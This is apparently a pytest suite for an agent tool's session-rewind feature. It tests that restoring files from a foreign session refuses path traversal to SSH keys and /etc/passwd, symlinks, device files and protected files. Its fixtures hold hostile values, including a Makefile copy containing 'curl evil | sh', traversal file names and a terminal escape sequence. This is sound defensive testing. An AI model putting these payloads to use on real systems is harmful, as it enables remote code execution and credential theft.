"""Rewinding a session that somebody else wrote, whose lines name any files and copies."""

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from support.build import assistant, session, text, user
from support.changed_files import Work
from support.chat_process import AGAIN, NAME, ChatProcess
from support.pty_chat import pty_chat
from support.scripted_api import said, scripted_api
from turnlog.agent.session.disk_state import is_recorded_here
from turnlog.agent.session.file_history import FileHistory
from turnlog.agent.session.rewind import (
    FOREIGN,
    OUTSIDE,
    PROTECTED,
    RewindPlan,
    RewindScope,
    apply_rewind,
    plan_rewind,
)
from turnlog.conversation.session import open_session
from turnlog.edit.journal import Journal
from turnlog.format.timestamps import stamp_of
from turnlog.store.paths import Store

PROMPT = "aaaaaaaa-0000-4000-8000-000000000001"
COPY = "0123456789abcdef@v1"
Fields = dict[str, Any]


@pytest.fixture
def work(store: Store, tmp_path: Path) -> Work:
    return Work(store, tmp_path / "shop")


def snapshot(files: dict[str, Fields]) -> bytes:
    held = {"messageId": PROMPT, "trackedFileBackups": files, "timestamp": "t"}
    line = {"type": "file-history-snapshot", "messageId": PROMPT, "snapshot": held}
    return json.dumps(line).encode() + b"\n"


def backup(name: str | None = COPY, **more: str) -> Fields:
    return {"backupFileName": name, "version": 1, "backupTime": "t"} | more


def plan_of(work: Work, files: dict[str, Fields]) -> RewindPlan:
    """Plan the rewind of a session whose only snapshot names these files."""
    work.path.write_bytes(session(snapshot(files), user("hello", uuid=PROMPT)))
    copy = work.history.folder / COPY
    copy.parent.mkdir(parents=True, exist_ok=True)
    if not copy.is_symlink():
        copy.write_text("echo PWNED\n")
    return plan_rewind(work.store, open_session(work.path), PROMPT, work.root)


def go_back(work: Work, plan: RewindPlan, tmp_path: Path) -> None:
    session = open_session(work.path)
    apply_rewind(plan, RewindScope.FILES, session, Journal(tmp_path / "journal"), overwrite=True)


def allow_all(path: Path) -> bool:
    return True


NAMES = ["../../../.ssh/id_rsa", "/etc/passwd", f"{COPY}/../../x", "..", "", f"{COPY}\n", "x@v1"]


@pytest.mark.parametrize("name", NAMES)
def test_a_copy_lies_among_the_copies(work: Work, name: str) -> None:
    assert plan_of(work, {"notes.txt": backup(name)}).files == []


def test_a_copy_is_no_link(work: Work, tmp_path: Path) -> None:
    (tmp_path / "id_rsa").write_text("KEY")
    work.history.folder.mkdir(parents=True)
    (work.history.folder / COPY).symlink_to(tmp_path / "id_rsa")
    plan = plan_of(work, {"notes.txt": backup()})
    assert [file.is_lost for file in plan.files] == [True]
    go_back(work, plan, tmp_path)
    assert not (work.root / "notes.txt").exists()


def test_the_folder_of_copies_is_no_link(work: Work, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    work.history.folder.parent.mkdir(parents=True)
    work.history.folder.symlink_to(tmp_path / "elsewhere")
    assert [file.is_lost for file in plan_of(work, {"notes.txt": backup()}).files] == [True]


@pytest.mark.parametrize(
    ("name", "more", "why"),
    [
        ("../.bash_profile", {}, OUTSIDE),
        ("{home}/.bash_profile", {}, OUTSIDE),
        ("a/../../x", {}, OUTSIDE),
        ("x", {"realParentDir": "{home}"}, OUTSIDE),
        ("link/authorized_keys", {}, OUTSIDE),
        (".git/hooks/pre-commit", {}, PROTECTED),
        (".envrc", {}, PROTECTED),
        ("web/.Claude/settings.json", {}, PROTECTED),
    ],
)
def test_files_elsewhere_and_protected_ones_only_go_back_by_themselves(
    work: Work, tmp_path: Path, name: str, more: dict[str, str], why: str
) -> None:
    (tmp_path / "ssh").mkdir()
    (work.root / "link").symlink_to(tmp_path / "ssh")
    more = {key: value.format(home=tmp_path) for key, value in more.items()}
    plan = plan_of(work, {name.format(home=tmp_path): backup(**more), "a.txt": backup()})
    (apart,) = plan.apart
    assert apart.apart == why
    go_back(work, plan, tmp_path)
    assert not apart.path.exists()
    assert (work.root / "a.txt").read_text() == "echo PWNED\n"
    plan = plan_rewind(work.store, open_session(work.path), PROMPT, work.root)
    go_back(work, plan.choosing([apart.path]), tmp_path)
    assert apart.path.exists()


def test_a_file_elsewhere_is_not_deleted_with_the_others(work: Work, tmp_path: Path) -> None:
    other = tmp_path / "other.txt"
    other.write_text("mine")
    plan = plan_of(work, {str(other): backup(None)})
    assert (plan.removed, [file.path for file in plan.apart]) == ([], [other])
    go_back(work, plan, tmp_path)
    assert other.exists()


@pytest.mark.parametrize("name", ["/proc/kmsg", "/proc/self/mem", "/dev/zero", "/sys/kernel/mm"])
def test_what_is_no_file_on_disk_is_not_looked_at(work: Work, name: str) -> None:
    assert plan_of(work, {name: backup()}).files == []


@pytest.mark.parametrize("may_copy", [None, allow_all], ids=["by default", "whatever is allowed"])
@pytest.mark.parametrize("name", ["{home}/secret", "/proc/kmsg", "/proc/self/mem", "/dev/zero"])
def test_going_on_copies_nothing_that_only_the_lines_name(
    work: Work, tmp_path: Path, name: str, may_copy: Callable[[Path], bool] | None
) -> None:
    plan_of(work, {name.format(home=tmp_path): backup(None)})
    if may_copy is None:
        (tmp_path / "secret").write_text("SECRET")
    before = sorted(work.history.folder.iterdir())
    again = FileHistory(work.store, work, work.root, may_copy)
    line = again.snapshot_line("p2")
    assert sorted(work.history.folder.iterdir()) == before
    if may_copy is None or not name.startswith("{"):
        assert line["snapshot"]["trackedFileBackups"] == {}


def test_going_on_leaves_out_files_that_rules_deny_reading(tmp_path: Path) -> None:
    with scripted_api(said("Done.")) as api:
        chat = ChatProcess(tmp_path, api.url)
        (chat.work / ".env").write_text("SECRET")
        files = {".env": backup(None), "a.txt": backup(None)}
        chat.session.parent.mkdir(parents=True)
        chat.session.write_bytes(session(snapshot(files), user("hello", uuid=PROMPT)))
        (chat.work / "a.txt").write_text("a")
        told = chat.run("-p", "go on", *AGAIN, "--disallowed-tools", "Read(.env)")
    assert (told.code, told.out) == (0, "Done.\n")
    copies = [path.read_text() for path in (chat.store.file_history / NAME).iterdir()]
    assert copies == ["a"]


def test_enter_out_of_habit_writes_nothing_and_odd_files_are_named_first(tmp_path: Path) -> None:
    with scripted_api(said("ok")) as api:
        chat = ChatProcess(tmp_path, api.url)
        files = {f"src/m{number}.py": backup() for number in range(9)}
        files |= {"../.bash_profile": backup(), "notes.txt": backup("../../../.ssh/id_rsa")}
        chat.session.parent.mkdir(parents=True)
        lines = (snapshot(files), user("hello", uuid=PROMPT), assistant(text("hi")))
        chat.session.write_bytes(session(*lines))
        copy = chat.store.file_history / NAME / COPY
        copy.parent.mkdir(parents=True)
        copy.write_text("echo PWNED\n")
        with pty_chat(chat, *AGAIN) as person:
            person.see("asks before changes")
            person.type("/rewind\r")
            person.see("Go back to before which prompt?")
            person.type("\r")
            person.see(
                f"{tmp_path}/.bash_profile",
                "❯ 1. Conversation",
                "creates 9 files, asks about 1 file",
            )
            # Where lines break depends on the length of the path.
            screen = " ".join(person.screen.split())
            assert OUTSIDE in screen
            first, *_ = screen.partition("is created")
            assert first.endswith("/.bash_profile ")
            person.type("2")
            person.see("Create 9 files?", "❯ 1. No, leave everything as it is")
            person.type("2")
            person.see("Create this file?", "❯ 1. No, leave it as it is")
            person.type("\r")
            person.see("9 files brought back")
    assert not (tmp_path / ".bash_profile").exists()
    assert not (chat.work / "notes.txt").exists()
    assert (chat.work / "src" / "m8.py").read_text() == "echo PWNED\n"


def foreign_makefile(chat: ChatProcess, prompt: str = "hello") -> Path:
    """The project's own Makefile, in a session that contains it and another one."""
    current = "build:\n\tcc main.c\n"
    (chat.work / "Makefile").write_text(current)
    later = json.loads(snapshot({"Makefile": backup(COPY.replace("v1", "v2"))}))
    later["messageId"] = later["snapshot"]["messageId"] = "later"
    lines = (
        snapshot({"Makefile": backup(backupTime="2026-01-01T00:00:00.000Z")}),
        user(prompt, uuid=PROMPT),
        assistant(text("hi")),
        json.dumps(later).encode() + b"\n",
    )
    chat.session.parent.mkdir(parents=True)
    chat.session.write_bytes(session(*lines))
    copies = chat.store.file_history / NAME
    copies.mkdir(parents=True)
    (copies / COPY).write_text("build:\n\tcurl evil | sh\n")
    (copies / COPY.replace("v1", "v2")).write_text(current)
    return chat.work / "Makefile"


def test_a_strangers_copy_only_replaces_a_file_by_itself(tmp_path: Path) -> None:
    chat = ChatProcess(tmp_path, "http://127.0.0.1:9")
    makefile = foreign_makefile(chat)
    plan = plan_rewind(chat.store, open_session(chat.session), PROMPT, chat.work)
    assert [(file.path, file.apart) for file in plan.files] == [(makefile, FOREIGN)]


def test_copies_that_were_made_here_go_back_together(work: Work) -> None:
    file = work.root / "a.txt"
    file.write_text("before")
    work.history.before_change(file)
    file.write_text("after")
    (copy,) = work.history.folder.iterdir()
    assert is_recorded_here(copy, stamp_of(datetime.now(UTC)))
    assert not is_recorded_here(copy, stamp_of(datetime.now(UTC) + timedelta(hours=1)))
    assert not is_recorded_here(copy, "t")


def test_a_strangers_copy_is_known_by_its_own_time(work: Work) -> None:
    for name in ("a.txt", "Makefile"):
        (work.root / name).write_text("current")
    own = work.history.folder / COPY.replace("v1", "v2")
    own.parent.mkdir(parents=True)
    own.write_text("before")
    files = {
        "a.txt": backup(own.name, backupTime=stamp_of(datetime.now(UTC))),
        "Makefile": backup(backupTime="2026-01-01T00:00:00.000Z"),
    }
    plan = plan_of(work, files)
    assert {file.path.name: file.apart for file in plan.files} == {"a.txt": "", "Makefile": FOREIGN}


def test_enter_out_of_habit_keeps_a_file_and_the_prompt_is_typed_in_plainly(tmp_path: Path) -> None:
    with scripted_api(said("ok")) as api:
        chat = ChatProcess(tmp_path, api.url)
        makefile = foreign_makefile(chat, "hello \u202ethere\x1b]52;c;AAAA\x07")
        before = makefile.read_text()
        with pty_chat(chat, *AGAIN) as person:
            person.see("asks before changes")
            person.type("/rewind\r")
            person.see("Go back to before which prompt?")
            person.type("\r")
            person.see(FOREIGN, "❯ 1. Conversation")
            person.type("\r")
            person.see("hello there]52;c;AAAA")
            assert "\u202e" not in person.screen
    assert makefile.read_text() == before
